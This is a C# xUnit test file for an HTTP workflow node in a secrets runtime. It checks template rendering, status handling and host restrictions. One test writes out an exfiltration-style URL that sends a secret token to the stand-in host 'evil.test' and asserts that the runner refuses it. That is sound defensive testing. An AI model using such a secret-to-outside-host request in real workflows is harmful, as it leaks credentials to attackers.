using System.Net;
using System.Text.Json.Nodes;
using Secrets.Runtime.References;
using Secrets.Runtime.Store;
using Secrets.Runtime.Workflows.Definition;
using Secrets.Runtime.Workflows.Execution;
using Secrets.Runtime.Workflows.Nodes.Http;

namespace Secrets.Runtime.Tests.Workflows.Nodes.Http;

public sealed class HttpNodeRunnerTests
{
    private sealed class RecordingHandler : HttpMessageHandler
    {
        public List<(HttpRequestMessage Request, string? Body)> Sent { get; } = [];

        public HttpStatusCode Status { get; init; } = HttpStatusCode.OK;

        protected override async Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            Sent.Add((request, request.Content is null ? null : await request.Content.ReadAsStringAsync(cancellationToken)));
            return new HttpResponseMessage(Status) { Content = new StringContent("""{"ok":true}""", System.Text.Encoding.UTF8, "application/json") };
        }
    }

    private static TemplateRenderer Renderer() => new(
        new Dictionary<SecretName, string> { [SecretName.Parse("TOKEN")] = "t-999", [SecretName.Parse("HOST")] = "evil.test" },
        [],
        JsonNode.Parse("""{ "id": 5 }"""),
        _ => null);

    private static HttpNode Node(string json) => (HttpNode)WorkflowLoader.Parse($$"""{ "name": "w", "project": "p", "owner": "o", "nodes": [ {{json}} ] }""").Nodes[0];

    [Fact]
    public async Task The_rendered_request_carries_the_real_values_and_the_response_becomes_output()
    {
        var handler = new RecordingHandler();
        using var client = new HttpClient(handler);
        var node = Node("""{ "id": "h", "type": "http", "method": "post", "url": "https://api.example.com/items/{{inputs.id}}", "headers": { "Authorization": "Bearer {{TOKEN}}" }, "body": { "k": "{{secrets.TOKEN}}" } }""");

        var (resolved, output) = await new HttpNodeRunner(client).RunAsync(node, Renderer(), CancellationToken.None);

        var (request, body) = Assert.Single(handler.Sent);
        Assert.Equal(HttpMethod.Post, request.Method);
        Assert.Equal("https://api.example.com/items/5", request.RequestUri!.ToString());
        Assert.Equal("Bearer t-999", request.Headers.Authorization!.ToString());
        Assert.Equal("""{"k":"t-999"}""", body);
        Assert.Equal(200, output["status"]!.GetValue<int>());
        Assert.True(output["body"]!["ok"]!.GetValue<bool>());
        Assert.Equal("https://api.example.com/items/5", resolved["url"]!.GetValue<string>());
    }

    [Fact]
    public async Task A_host_taken_from_a_secret_is_refused_before_anything_is_sent()
    {
        var handler = new RecordingHandler();
        using var client = new HttpClient(handler);
        var node = Node("""{ "id": "h", "type": "http", "url": "https://{{HOST}}/collect?t={{TOKEN}}" }""");

        var ex = await Assert.ThrowsAsync<NodeFailedException>(() => new HttpNodeRunner(client).RunAsync(node, Renderer(), CancellationToken.None));

        Assert.Empty(handler.Sent);
        Assert.Equal("http.host_denied", ex.Code);
        Assert.DoesNotContain("t-999", ex.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_host_outside_allowed_hosts_is_refused()
    {
        var handler = new RecordingHandler();
        using var client = new HttpClient(handler);
        var node = Node("""{ "id": "h", "type": "http", "url": "https://{{HOST}}/", "allowedHosts": ["api.example.com"] }""");

        var ex = await Assert.ThrowsAsync<NodeFailedException>(() => new HttpNodeRunner(client).RunAsync(node, Renderer(), CancellationToken.None));

        Assert.Empty(handler.Sent);
        Assert.Contains("allowed: api.example.com", ex.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_failure_status_fails_the_node_and_keeps_the_response()
    {
        var handler = new RecordingHandler { Status = HttpStatusCode.Unauthorized };
        using var client = new HttpClient(handler);
        var node = Node("""{ "id": "h", "type": "http", "url": "https://api.example.com/" }""");

        var ex = await Assert.ThrowsAsync<HttpNodeStatusException>(() => new HttpNodeRunner(client).RunAsync(node, Renderer(), CancellationToken.None));

        Assert.Equal(401, ex.Status);
        Assert.Equal(401, ex.Output["status"]!.GetValue<int>());
    }
}
